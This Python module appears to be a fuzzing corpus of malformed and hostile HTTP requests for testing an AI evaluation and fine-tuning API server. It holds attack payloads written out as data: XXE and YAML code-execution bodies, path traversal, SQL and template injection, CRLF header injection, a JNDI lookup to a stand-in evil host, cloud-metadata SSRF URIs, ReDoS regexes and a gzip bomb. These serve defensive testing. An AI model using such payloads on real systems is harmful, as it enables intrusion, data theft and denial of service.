"""Hostile requests as data: what nobody should send, and what the server may answer. Built by families, each named.

A request is bytes on a socket, for clients' libraries would mend or refuse much of this themselves. The ids in it are
those of `fuzzing/world.py`.
"""

from __future__ import annotations

import copy
import gzip
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any

REFUSED = (400,)
REFUSED_OR_TAKEN = (200, 400)
MISSING = (400, 404)

JSON_TYPE = "Content-Type: application/json"


@dataclass(frozen=True)
class Hostile:
    """One request. `target` is the request line's second part as it is sent."""

    name: str
    method: str
    target: str
    statuses: Sequence[int]
    body: bytes | None = None
    headers: tuple[str, ...] = ()
    chunked: bool = False
    no_http: bool = False
    """The HTTP parser itself may answer: 400 in plain words, or nothing."""

    def sent(self, host: str) -> bytes:
        """The bytes of the request."""
        lines = [f"{self.method} {self.target} HTTP/1.1"]
        given = {header.partition(":")[0].lower() for header in self.headers}
        if "host" not in given:
            lines.append(f"Host: {host}")
        lines += [*self.headers, "Connection: close"]
        body = self.body or b""
        if self.chunked:
            lines.append("Transfer-Encoding: chunked")
            body = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in _parts(body)) + b"0\r\n\r\n"
        elif self.body is not None and "content-length" not in given:
            lines.append(f"Content-Length: {len(body)}")
        return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


def _parts(body: bytes, size: int = 65536) -> Iterator[bytes]:
    yield from (body[start : start + size] for start in range(0, len(body), size))


# ---------------------------------------------------------------------------------------------------- good requests

_SAMPLING = {
    "strategy": {"type": "top_p", "temperature": 0.5, "top_p": 0.9},
    "max_tokens": 8,
    "repetition_penalty": 1.0,
    "stop": ["."],
}
_CONFIG = {
    "eval_candidate": {
        "type": "model",
        "model": "pupil",
        "sampling_params": _SAMPLING,
        "system_message": {"role": "system", "content": [{"type": "text", "text": "Be brief."}]},
    },
    "scoring_params": {"basic::equality": {"type": "basic", "aggregation_functions": ["accuracy"]}},
    "num_examples": 1,
}
_JUDGE = {
    "judged": {
        "type": "llm_as_judge",
        "judge_model": "judge",
        "prompt_template": "{generated_answer}",
        "judge_score_regexes": [r"(\d)"],
        "aggregation_functions": ["average"],
    }
}
_LORA = {
    "type": "LoRA",
    "lora_attn_modules": ["q_proj"],
    "apply_lora_to_mlp": False,
    "apply_lora_to_output": False,
    "rank": 2,
    "alpha": 4,
    "use_dora": False,
    "quantize_base": False,
}
_TRAINING = {
    "n_epochs": 1,
    "max_steps_per_epoch": 1,
    "gradient_accumulation_steps": 1,
    "max_validation_steps": 1,
    "data_config": {
        "dataset_id": "nothing",  # refused as the last thing: no request of this corpus trains
        "batch_size": 2,
        "shuffle": False,
        "data_format": "dialog",
        "validation_dataset_id": "chats",
        "packed": False,
        "train_on_input": False,
    },
    "optimizer_config": {"optimizer_type": "adamw", "lr": 1e-3, "weight_decay": 0.0, "num_warmup_steps": 1},
    "efficiency_config": {"enable_activation_checkpointing": False},
    "dtype": "fp32",
}

POSTS: dict[str, tuple[str, Any]] = {
    "append_rows": ("/v1beta/datasetio/append-rows/grown", {"rows": [{"question": "q", "answer": "a"}]}),
    "run_eval": ("/v1alpha/eval/benchmarks/team%2Fnone/jobs", _CONFIG),
    "evaluate_rows": (
        "/v1alpha/eval/benchmarks/exam-eq/evaluations",
        {
            "input_rows": [{"question": "q", "answer": "a"}],
            "scoring_functions": ["judged"],
            "benchmark_config": _CONFIG | {"scoring_params": _JUDGE},
        },
    ),
    "rerank": (
        "/v1alpha/inference/rerank",
        {"model": "ranker", "query": "q", "items": ["a", {"type": "text", "text": "b"}], "max_num_results": 1},
    ),
    "supervised_fine_tune": (
        "/v1alpha/post-training/supervised-fine-tune",
        {
            "job_uuid": "hostile",
            "training_config": _TRAINING,
            "hyperparam_search_config": {},
            "logger_config": {},
            "model": "tiny",
            "checkpoint_dir": "runs/hostile",
            "algorithm_config": _LORA,
        },
    ),
    "preference_optimize": (
        "/v1alpha/post-training/preference-optimize",
        {
            "job_uuid": "hostile",
            "finetuned_model": "tiny",
            "algorithm_config": {"beta": 0.1, "loss_type": "sigmoid"},
            "training_config": _TRAINING,
            "hyperparam_search_config": {},
            "logger_config": {},
        },
    ),
    "cancel_training_job": ("/v1alpha/post-training/job/cancel", {"job_uuid": "none"}),
    "register_dataset": (
        "/v1beta/datasets",
        {
            "dataset_id": "hostile",
            "purpose": "eval/question-answer",
            "source": {"type": "rows", "rows": [{"question": "q"}]},
            "metadata": {},
        },
    ),
    "register_benchmark": (
        "/v1alpha/eval/benchmarks",
        {"benchmark_id": "hostile", "dataset_id": "exam", "scoring_functions": ["basic::equality"]},
    ),
    "register_scoring_function": (
        "/v1/scoring-functions",
        {"scoring_fn_id": "hostile", "description": "d", "return_type": {"type": "number"}, "params": _JUDGE["judged"]},
    ),
    "register_model": ("/v1/models", {"model_id": "hostile", "provider_id": "lab", "model_type": "llm"}),
    "score": (
        "/v1/scoring/score",
        {"input_rows": [{"generated_answer": "a"}], "scoring_functions": {"basic::subset_of": {"type": "basic"}}},
    ),
    "chat": ("/v1/chat/completions", {"model": "pupil", "messages": [{"role": "user", "content": "q"}], "n": 1}),
}
"""Operation → its path, and a body that is right in all its fields."""

CONTRACT_POSTS = ("append_rows", "run_eval", "evaluate_rows", "rerank", "supervised_fine_tune", "preference_optimize")


def post(name: str, operation: str, body: bytes, statuses: Sequence[int] = REFUSED, **more: Any) -> Hostile:
    more.setdefault("headers", (JSON_TYPE,))
    return Hostile(f"{name} · {operation}", "POST", POSTS[operation][0], statuses, body, **more)


# ---------------------------------------------------------------------------------------------------- families


def no_json() -> Iterator[Hostile]:
    """Bodies that are no JSON, or no object, at every operation that takes one."""
    bodies = {
        "empty": b"",
        "white space": b" \r\n\t ",
        "null": b"null",
        "an array": b"[]",
        "an array of objects": b"[{}]",
        "a string": b'"text"',
        "a number": b"1",
        "true": b"true",
        "half an object": b'{"rows": [{"a": 1}',
        "half a string": b'{"rows": "abc',
        "half an escape": b'{"rows": "\\u00',
        "trailing garbage": b"{} x",
        "two objects": b"{}{}",
        "a trailing comma": b'{"rows": [],}',
        "a comment": b'{"rows": [] /* none */}',
        "single quotes": b"{'rows': []}",
        "bare names": b"{rows: []}",
        "NaN": b'{"rows": [{"a": NaN}], "n": NaN}',
        "Infinity": b'{"rows": [{"a": Infinity}]}',
        "minus Infinity": b'{"rows": -Infinity}',
        "a leading zero": b'{"rows": 01}',
        "a leading plus": b'{"rows": +1}',
        "hexadecimal": b'{"rows": 0x1}',
        "invalid UTF-8": b'{"rows": [{"a": "\xff\xfe"}]}',
        "half a UTF-8 character": b'{"rows": "\xe2\x82"}',
        "overlong UTF-8": b'{"rows": "\xc0\xaf"}',
        "UTF-8 surrogates": b'{"rows": "\xed\xa0\x80"}',
        "UTF-16": json.dumps({"rows": []}).encode("utf-16"),
        "UTF-32": json.dumps({"rows": []}).encode("utf-32"),
        "a byte order mark": b'\xef\xbb\xbf{"rows": []}',
        "a lone high surrogate": b'{"rows": [{"a": "\\ud800"}]}',
        "a lone low surrogate": b'{"rows": [{"a": "\\udc00x"}]}',
        "surrogates the wrong way": b'{"rows": [{"a": "\\ude00\\ud83d"}]}',
        "a raw control character": b'{"rows": "a\x01b"}',
        "a raw newline": b'{"rows": "a\nb"}',
        "NUL bytes": b"\x00" * 64,
        "10,000 arrays": b"[" * 10_000 + b"]" * 10_000,
        "10,000 arrays in a row": b'{"rows": [{"a": ' + b"[" * 10_000 + b"]" * 10_000 + b"}]}",
        "10,000 objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        "10,000 brackets that never close": b'{"rows":' * 10_000,
        "129 levels": b'{"rows": ' + b"[" * 129 + b"]" * 129 + b"}",
        "a form": b"rows=%5B%5D&a=b",
        "XML": b"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><r>&e;</r>",
        "YAML": b"!!python/object/apply:os.system ['id']",
        "a pickle": b"\x80\x04\x95\x00",
        "gzip without a word": gzip.compress(b'{"rows": []}'),
    }
    for name, body in bodies.items():
        for operation in (*CONTRACT_POSTS, "cancel_training_job", "register_dataset"):
            yield post(name, operation, body)


def content_types() -> Iterator[Hostile]:
    """Bodies that are declared to be something else, or packed."""
    good = json.dumps(POSTS["rerank"][1]).encode()
    for value in (
        "text/plain",
        "text/plain; application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "text/json",
        "application/xml",
        "application/jsonx",
        "application/json, text/plain",
        "application",
        "*/*",
        "application/json; charset=utf-16",
        "application/json; charset=latin-1",
        'application/json; charset="utf-7"',
        "x" * 5000,
    ):
        yield post(f"content type {value[:40]}", "rerank", good, headers=(f"Content-Type: {value}",))
    yield post("no content type", "rerank", good, headers=())
    for encoding in ("gzip", "deflate", "br", "gzip, gzip", "x"):
        packed = gzip.compress(good)
        yield post(
            f"content encoding {encoding}", "rerank", packed, headers=(JSON_TYPE, f"Content-Encoding: {encoding}")
        )
    bomb = gzip.compress(b'{"rows": [' + b"{}," * 2_000_000 + b"{}]}")
    yield post("a gzip bomb", "append_rows", bomb, headers=(JSON_TYPE, "Content-Encoding: gzip"))
    for value in ("application/json; charset=utf-8", "APPLICATION/JSON", "application/vnd.api+json"):
        yield post(f"content type {value}", "rerank", good, (200,), headers=(f"Content-Type: {value}",))


def _leaves(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    yield path
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for name, item in items:
        yield from _leaves(item, (*path, name))


_WRONG: dict[str, Any] = {
    "null": None,
    "false": False,
    "minus one": -1,
    "a fraction": 1.5,
    "text": "ä\u202e\U0001f600\u0000",
    "digits": "1",
    "an array": [[]],
    "an object": {"__proto__": {"a": 1}, "constructor": 1, "__class__": "x", "": ""},
    "2^63": 2**63,
    "400 digits": int("9" * 400),
    "1e400": "\x001e400\x00",
    "a long text": "x" * 100_000,
}


def wrong_types() -> Iterator[Hostile]:
    """Every field of every operation's body, each with some values of another type, in turn."""
    wrong = list(_WRONG.items())
    turn = 0
    for operation, (_, good) in POSTS.items():
        for path in _leaves(good):
            if not path:
                continue
            for _ in range(3):
                name, value = wrong[turn % len(wrong)]
                turn += 1
                body = copy.deepcopy(good)
                inner = body
                for part in path[:-1]:
                    inner = inner[part]
                inner[path[-1]] = value
                text = json.dumps(body).replace('"\\u00001e400\\u0000"', "1e400").encode()
                # Which of them is right where is the field's business: here, that none is a bug.
                yield post(f"{name} at /{'/'.join(map(str, path))}", operation, text, (200, 400, 404, 409))


def numbers() -> Iterator[Hostile]:
    """Numbers that no type holds, in fields that have one."""
    for digits in ("9" * 400, "9" * 5000, "-" + "9" * 400, "1e400", "-1e999", "9223372036854775808", "1e-99999"):
        shown = digits if len(digits) < 20 else f"{digits[:2]}… of {len(digits)}"
        body = json.dumps(POSTS["rerank"][1]).replace('"max_num_results": 1', f'"max_num_results": {digits}')
        yield post(f"max_num_results {shown}", "rerank", body.encode())
        body = json.dumps(POSTS["preference_optimize"][1]).replace('"beta": 0.1', f'"beta": {digits}')
        yield post(f"beta {shown}", "preference_optimize", body.encode())
        for field in ("n_epochs", "max_validation_steps", "batch_size", "num_warmup_steps", "rank", "alpha"):
            text = json.dumps(POSTS["supervised_fine_tune"][1])
            name, _, value = text[text.index(f'"{field}"') :].partition(":")
            old = f"{name}:{value.split(',')[0].split('}')[0]}"
            yield post(f"{field} {shown}", "supervised_fine_tune", text.replace(old, f"{name}: {digits}").encode())
        row = f'{{"rows": [{{"question": "q", "answer": "a", "n": {digits}}}]}}'
        yield post(f"a row with {shown}", "append_rows", row.encode(), (200,))
        body = json.dumps(POSTS["evaluate_rows"][1]).replace('"answer": "a"', f'"answer": "a", "n": {digits}')
        yield post(f"an input row with {shown}", "evaluate_rows", body.encode(), (200,))


def twice() -> Iterator[Hostile]:
    """Names that stand twice: refused in typed bodies, kept in rows."""
    for operation, (_, good) in POSTS.items():
        text = json.dumps(good)
        for name in list(good)[:2]:
            again = f'{{"{name}": null, {text[1:]}'
            yield post(f"{name} twice", operation, again.encode())
            yield post(
                f"{name} twice, escaped", operation, again.replace(name, f"\\u{ord(name[0]):04x}{name[1:]}", 1).encode()
            )
    yield post("a row's name twice", "append_rows", b'{"rows": [{"question": "a", "question": "b"}]}', (200,))
    yield post("100,000 names, all the same", "rerank", b"{" + b'"a": 1,' * 100_000 + b'"a": 1}')


def paths() -> Iterator[Hostile]:
    """Ids in paths that are no ids, and paths that lead somewhere else."""
    ids = {
        "nothing": "",
        "a dot": ".",
        "two dots": "..",
        "encoded dots": "%2e%2e",
        "up and away": "..%2f..%2f..%2fetc%2fpasswd",
        "up within": "a/../b",
        "backslashes": "..%5c..%5cwindows",
        "double encoding": "%252e%252e%252f",
        "NUL": "a%00b",
        "a control character": "a%07b",
        "a newline": "a%0d%0aSet-Cookie:%20x=1",
        "DEL": "%7f",
        "C1": "%C2%85",
        "257 characters": "x" * 257,
        "8,000 characters": "x" * 8000,
        "invalid UTF-8": "%ff%fe",
        "overlong UTF-8": "%c0%ae%c0%ae",
        "a surrogate": "%ed%a0%80",
        "half an escape": "%",
        "no hex": "%zz",
        "a slash first": "%2fetc%2fpasswd",
        "a slash last": "a%2f",
        "slashes alone": "%2f%2f%2f",
        "right to left": "%e2%80%aegnp.exe",
        "zero width": "a%e2%80%8bb",
        "decomposed": "e%cc%81",
        "an emoji": "%f0%9f%98%80",
        "a quote": "'%20OR%201=1--",
        "SQL": "x%27%3b%20DROP%20TABLE%20datasets%3b--",
        "a template": "%7b%7b7*7%7d%7d",
        "a format": "%25s%25n%7b0.__class__%7d",
        "a wildcard": "%25",
        "a prototype": "__proto__",
        "a file URI": "file:///etc/passwd",
        "a semicolon": "a;b=c",
    }
    routes = {
        "get_dataset": ("GET", "/v1beta/datasets/{}"),
        "iterrows": ("GET", "/v1beta/datasetio/iterrows/{}"),
        "get_benchmark": ("GET", "/v1alpha/eval/benchmarks/{}"),
        "job_result": ("GET", "/v1alpha/eval/benchmarks/exam-eq/jobs/{}/result"),
        "job_cancel": ("DELETE", "/v1alpha/eval/benchmarks/{}/jobs/x"),
        "job_log": ("GET", "/v1alpha/jobs/{}/logs"),
        "get_model": ("GET", "/v1/models/{}"),
    }
    for name, value in ids.items():
        for route, (method, template) in routes.items():
            # Some lead to another route, some are ids that `values` registers.
            found = name in ("nothing", "slashes alone", "a dot", "decomposed", "a template")
            statuses = (200, 400, 404, 405) if found else MISSING
            yield Hostile(f"{name} · {route}", method, template.format(value), statuses)
    for name, target in {
        "another root": "//v1beta/datasets",
        "up to a route": "/v1beta/../v1/health",
        "a trailing slash": "/v1beta/datasets/",
        "an absolute target": "http://evil.example/v1beta/datasets",
        "a fragment": "/v1beta/datasets#x",
        "the root": "/",
        "a file": "/.env",
        "a traversal": "/../../../../etc/passwd",
        "an encoded route": "/v1beta/%64atasets",
        "60,000 characters": "/" + "a" * 60_000,
    }.items():
        yield Hostile(name, "GET", target, (200, 400, 403, 404, 414), no_http=True)


def queries() -> Iterator[Hostile]:
    """Query strings."""
    for name, query in {
        "limit minus two": "limit=-2",
        "limit minus 2^63": f"limit={-(2**63)}",
        "limit 2^63": f"limit={2**63}",
        "limit of 400 digits": "limit=" + "9" * 400,
        "limit of 5,000 digits": "limit=" + "9" * 5000,
        "limit 1e3": "limit=1e3",
        "limit NaN": "limit=NaN",
        "limit empty": "limit=",
        "limit hexadecimal": "limit=0x10",
        "limit in Arabic digits": "limit=%d9%a3",
        "limit twice": "limit=1&limit=x",
        "limit an array": "limit[]=1",
        "limit and NUL": "limit=1%00",
        "start minus one": "start_index=-1",
        "start 2^63": f"start_index={2**63}",
        "start of 400 digits": "start_index=" + "9" * 400,
        "start text": "start_index=first",
        "invalid UTF-8": "limit=%ff",
        "10,000 parameters": "&".join(f"a{i}=1" for i in range(10_000)),
        "a long value": "x=" + "y" * 60_000,
        "a prototype": "__proto__[limit]=1",
    }.items():
        yield Hostile(
            f"{name} in the query · iterrows",
            "GET",
            f"/v1beta/datasetio/iterrows/exam?{query}",
            (200, 400, 414),
            no_http=len(query) > 60_000,
        )
    for route, parameter in (
        ("/v1alpha/jobs", "before"),
        ("/v1alpha/jobs", "limit"),
        ("/v1alpha/jobs", "status"),
        ("/v1alpha/jobs", "kind"),
        ("/v1alpha/jobs/none/events", "after"),
        ("/v1alpha/jobs/none/metrics", "after"),
        ("/v1alpha/jobs/none/logs", "offset"),
        ("/v1alpha/jobs/none/logs", "attempt"),
        ("/v1alpha/post-training/job/status", "job_uuid"),
        ("/v1alpha/post-training/job/artifacts", "job_uuid"),
    ):
        for value in ("-1", str(2**63), "9" * 400, "%00", "%ff", "..%2f..", "x" * 5000, ""):
            yield Hostile(
                f"{parameter}={value[:20]}, {len(value)} · {route}",
                "GET",
                f"{route}?{parameter}={value}",
                (200, 400, 404),
            )


def methods_and_headers() -> Iterator[Hostile]:
    """Methods and header lines that no client sends."""
    for method in ("PUT", "PATCH", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "DELETE"):
        yield Hostile(f"{method} · list_datasets", method, "/v1beta/datasets", (405,))
    for method in ("BREW", "get", "X" * 5000, "G\x01ET"):
        yield Hostile(f"method {method[:9]!r}", method, "/v1beta/datasets", (400, 405, 501), no_http=True)
    health = "/v1beta/datasets"
    for name, header, statuses in (
        ("a foreign host", "Host: evil.example", (403,)),
        ("a host with a trick", "Host: 127.0.0.1@evil.example", (403,)),
        ("a host as no host", "Host: [::1", (403,)),
        ("a host of 8,000", "Host: " + "x" * 8000, (400, 403)),
        ("a foreign origin", "Origin: https://evil.example", (403,)),
        ("origin null", "Origin: null", (403,)),
        ("an empty host", "Host: ", (403,)),
        ("a forwarded host", "X-Forwarded-Host: evil.example", (200,)),
        ("a method override", "X-HTTP-Method-Override: DELETE", (200,)),
        ("an original URL", "X-Original-URL: /v1/providers", (200,)),
        ("a log line", "User-Agent: ${jndi:ldap://evil.example/a}", (200,)),
        ("a range", "Range: bytes=0-1,2-3,4-5", (200,)),
        ("an unknown expectation", "Expect: the unexpected", (200, 400, 417)),
        ("a negative length", "Content-Length: -1", (400,)),
        ("a length as text", "Content-Length: ten", (400,)),
        ("lengths that differ", "Content-Length: 1\r\nContent-Length: 2", (400,)),
        ("a header of 60 KB", "X-Long: " + "a" * 60_000, (200, 400, 431)),
        ("a header without a name", ": x", (400,)),
        ("a header in invalid UTF-8", "X-Odd: \udcff\udcfe", (200, 400)),
        ("a header with NUL", "X-Odd: a\x00b", (400,)),
        ("a folded header", "X-Odd: a\r\n b", (200, 400)),
        (
            "an upgrade",
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==",
            (200, 400, 403, 404, 426),
        ),
        ("HTTP/2 by upgrade", "Connection: Upgrade\r\nUpgrade: h2c", (200, 400)),
    ):
        yield Hostile(
            name, "GET", health, statuses, headers=(header,), no_http=400 in statuses or "websocket" in header
        )
    yield Hostile(
        "2,000 headers", "GET", health, (200, 400, 431), headers=tuple(f"X-{i}: 1" for i in range(2000)), no_http=True
    )
    for key in ("", "x" * 256, "x" * 20_000):
        yield post(
            f"an Idempotency-Key of {len(key)}",
            "append_rows",
            b'{"rows": []}',
            headers=(JSON_TYPE, f"Idempotency-Key: {key}"),
        )
    both = (JSON_TYPE, "Content-Length: 5", "Transfer-Encoding: chunked")
    yield post("a length and chunks", "append_rows", b"0\r\n\r\n", (400,), headers=both, no_http=True)
    yield post("a body on GET", "append_rows", b"x" * 1000, (400, 405), headers=("Content-Type: text/plain",))


def values() -> Iterator[Hostile]:
    """Well-formed bodies with something up their sleeve."""

    def body(operation: str, **fields: Any) -> bytes:
        return json.dumps(copy.deepcopy(POSTS[operation][1]) | fields).encode()

    for name, regex in {
        "(a+)+$": "(a+)+$",
        "nested stars": "((a*)*)*b",
        "alternatives": "(a|a|aa)+$",
        "a look-behind bomb": "(?<=(a+)+)b",
        "a back-reference bomb": r"(a*)\1*\1*b",
        "a counted bomb": "((a{1000}){1000}){1000}",
        "10,000 groups": "(" * 10_000 + ")" * 10_000,
        "unbalanced": "(((",
        "a bad class": "[z-a]",
        "recursion": "(?R)",
        "a long one": "a" * 5000,
        "NUL": "\x00",
        "named twice": "(?P<a>x)(?P<a>y)",
        "flags": "(?iLmsux)a",
    }.items():
        judge = {"judged": _JUDGE["judged"] | {"judge_score_regexes": [regex]}}
        config = _CONFIG | {"scoring_params": judge}
        yield post(
            f"judge_score_regexes {name}",
            "evaluate_rows",
            body("evaluate_rows", benchmark_config=config),
            REFUSED_OR_TAKEN,
        )
        function = {"type": "regex_parser", "parsing_regexes": [regex]}
        rows = [{"generated_answer": "a" * 5000 + "!", "expected_answer": "A"}]
        choice = {"basic::regex_parser_multiple_choice_answer": function}
        yield post(
            f"parsing_regexes {name}",
            "score",
            body("score", input_rows=rows, scoring_functions=choice),
            REFUSED_OR_TAKEN,
        )
    for template in (
        "{generated_answer.__class__}",
        "{0}{generated_answer}",
        "{generated_answer!r:>9999999999}",
        "{{generated_answer}}",
        "%s{generated_answer}%n",
        "{% for i in range(10**9) %}{generated_answer}{% endfor %}",
        "{generated_answer}" * 5000,
        "{",
        "}",
    ):
        judge = {"judged": _JUDGE["judged"] | {"prompt_template": template}}
        config = _CONFIG | {"scoring_params": judge}
        yield post(
            f"prompt_template {template[:30]}",
            "evaluate_rows",
            body("evaluate_rows", benchmark_config=config),
            REFUSED_OR_TAKEN,
        )
    for name, value in {
        "empty": "",
        "a path": "../../etc/passwd",
        "a folder": "/etc",
        "a NUL": "/etc\x00/x",
        "a long path": "/" + "a" * 5000,
        "a home": "~root",
        "a URL": "http://169.254.169.254/latest/meta-data",
        "an emoji": "\U0001f600" * 100,
        "right to left": "\u202egnp.exe",
        "decomposed": "e\u0301",
        "a megabyte": "m" * 1_000_000,
        "a template": "{{7*7}}",
        "a format": "{0.__class__}%s",
    }.items():
        yield post(f"model {name}", "rerank", body("rerank", model=value), MISSING)
        yield post(f"model {name}", "supervised_fine_tune", body("supervised_fine_tune", model=value))
        yield post(f"checkpoint_dir {name}", "supervised_fine_tune", body("supervised_fine_tune", checkpoint_dir=value))
        yield post(f"job_uuid {name}", "cancel_training_job", body("cancel_training_job", job_uuid=value), MISSING)
        yield post(
            f"provider_model_id {name}",
            "register_model",
            body("register_model", provider_id="local", provider_model_id=value),
        )
        for kind, uri in (("uri", value), ("file uri", f"file://{value}")):
            content = body("register_dataset", dataset_id=None, source={"type": "uri", "uri": uri})
            yield post(f"{kind} {name}", "register_dataset", content)
        statuses = (200, 400, 409)
        yield post(f"dataset_id {name}", "register_dataset", body("register_dataset", dataset_id=value), statuses)
    for uri in (
        "data:",
        "data:,",
        "data:;base64,####",
        "data:application/x-parquet;base64,UEFSMQ==",
        "data:text/csv,a,a%0a1,2",
        "data:application/json,[1",
        "data:application/jsonl,{}%0a[",
        "ftp://x/y",
        "file:///proc/self/environ",
        "file:///dev/zero",
        "hf://x",
        "data:application/json;charset=utf-16,[]",
    ):
        content = body("register_dataset", dataset_id=None, source={"type": "uri", "uri": uri})
        yield post(f"uri {uri}", "register_dataset", content, REFUSED_OR_TAKEN)
    odd = {
        "__proto__": {"polluted": True},
        "constructor": {"prototype": {}},
        "__class__": "x",
        "__init__": 1,
        "": 0,
        "~/": 1,
    }
    for operation, (_, good) in POSTS.items():
        yield post("prototypes beside the fields", operation, json.dumps(odd | good).encode(), (200, 400, 404, 409))
        deep = {"a": good}
        for _ in range(60):
            deep = {"~/\u0000": deep}
        yield post("a deep pointer", operation, json.dumps(deep).encode())
        control = {"a\r\nSet-Cookie: x=1": 1, "\u0000\u007f\u0085\u2028": 1, "\ud83d\ude00": 2}
        yield post(
            "control characters in unknown names", operation, json.dumps(control | good).encode(), (200, 400, 404, 409)
        )
    image = {"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}
    yield post("an image of a file", "rerank", body("rerank", query=image), (200, 400))
    message = {"role": "system", "content": [{"type": "image", "image": {"url": {"uri": "http://169.254.169.254/"}}}]}
    candidate = _CONFIG["eval_candidate"] | {"system_message": message}  # type: ignore[operator]
    config = _CONFIG | {"eval_candidate": candidate, "scoring_params": _JUDGE}
    yield post(
        "an image of the network", "evaluate_rows", body("evaluate_rows", benchmark_config=config), REFUSED_OR_TAKEN
    )


def large() -> Iterator[Hostile]:
    """Bodies of megabytes: within the limit, and over it (the corpus is for a server whose limit is 16 MiB)."""
    million = b"[" + b"1," * 999_999 + b"1]"
    texts = b"[" + b'"x",' * 999_999 + b'"x"]'
    yield post("10^6 items of a wrong type", "rerank", b'{"model": "ranker", "query": "q", "items": %s}' % million)
    yield post("10^6 items", "rerank", b'{"model": "ranker", "query": "q", "items": %s}' % texts)
    function = b'"basic::regex_parser_multiple_choice_answer": {"type": "regex_parser", "parsing_regexes": %s}' % texts
    yield post("10^6 regexes", "score", b'{"input_rows": [{}], "scoring_functions": {%s}}' % function)
    yield post(
        "10^6 stops", "chat", b'{"model": "pupil", "messages": [{"role": "user", "content": "q"}], "stop": %s}' % texts
    )
    yield post(
        "10^6 functions",
        "register_benchmark",
        b'{"benchmark_id": "b", "dataset_id": "exam", "scoring_functions": %s}' % texts,
    )
    names = b",".join(b'"%d": 1' % i for i in range(500_000))
    yield post("500,000 scoring parameters", "score", b'{"input_rows": [{}], "scoring_functions": {%s}}' % names)
    yield post("500,000 unknown fields", "rerank", b'{"model": "ranker", "query": "q", "items": ["a"], %s}' % names)
    yield post("10^6 rows", "append_rows", b'{"rows": [%s{}]}' % (b"{}," * 999_999), (200,))
    yield post("10^6 rows of a wrong type", "append_rows", b'{"rows": %s}' % million)
    yield post(
        "10^6 input rows",
        "evaluate_rows",
        json.dumps(POSTS["evaluate_rows"][1])
        .encode()
        .replace(b'[{"question": "q", "answer": "a"}]', b"[%s{}]" % (b"{}," * 999_999)),
    )
    yield post(
        "10^6 empty arrays", "rerank", b'{"model": "ranker", "query": "q", "items": [%s[]]}' % (b"[]," * 999_999)
    )
    yield post(
        "a text of 8 MB", "rerank", b'{"model": "none", "query": "%s", "items": ["a"]}' % (b"x" * 8_000_000), (404,)
    )
    yield post("escapes of 8 MB", "cancel_training_job", b'{"job_uuid": "%s"}' % (b"\\u0041" * 1_300_000), (404,))
    yield post("quotes of 8 MB", "cancel_training_job", b'{"job_uuid": "%s"}' % (b'\\"' * 4_000_000), (404,))
    yield post("half a text of 8 MB", "cancel_training_job", b'{"job_uuid": "%s' % (b'\\"' * 4_000_000))
    yield post("digits of 8 MB", "cancel_training_job", b'{"job_uuid": %s}' % (b"9" * 8_000_000))
    yield post("a row with digits of 8 MB", "append_rows", b'{"rows": [{"n": %s}]}' % (b"9" * 8_000_000), (200,))
    yield post("white space of 8 MB", "append_rows", b" " * 8_000_000 + b"{}")
    over = b'{"rows": [' + b" " * 17_000_000 + b"]}"
    yield post("over the limit", "append_rows", over, (413,))
    yield post("over the limit, in chunks", "append_rows", over, (413,), chunked=True)
    lie = (JSON_TYPE, "Content-Length: 999999999999")
    yield post("over the limit, as it says", "append_rows", b"{", (413,), headers=lie)
    lie = (JSON_TYPE, "Content-Length: " + "9" * 400)
    yield post("a length of 400 digits", "append_rows", b"{", (400, 413), headers=lie, no_http=True)


FAMILIES = (no_json, content_types, wrong_types, numbers, twice, paths, queries, methods_and_headers, values, large)


def corpus() -> list[Hostile]:
    """All of them."""
    return [request for family in FAMILIES for request in family()]
